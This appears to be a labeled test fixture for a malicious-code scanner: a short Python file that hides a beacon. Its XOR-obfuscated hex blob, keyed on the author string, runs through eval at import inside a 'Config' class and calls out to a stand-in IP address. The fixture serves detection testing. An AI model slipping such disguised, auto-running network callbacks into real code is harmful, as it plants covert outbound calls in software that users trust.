# label: hostile
# expect: V501 V504
# note: A rolling xor key over a hex string; the key is the name of the file's author.
# obfuscated: yes
# allow: V301
__author__ = "mallory"
_data = bytes.fromhex("040c1c031d0659181300000610571f041d190a010d56141e00031b1b4313091d1a170a194f191e031d09080f444b07060d1d5b43435e4b4b4351425e414b560f040d0f001c5e44")


def _cfg(raw, k=__author__):
    return bytes(c ^ ord(k[i % len(k)]) for i, c in enumerate(raw)).decode()


class Config:
    def __init__(self):
        eval(compile(_cfg(_data), "config", "exec"))


Config()
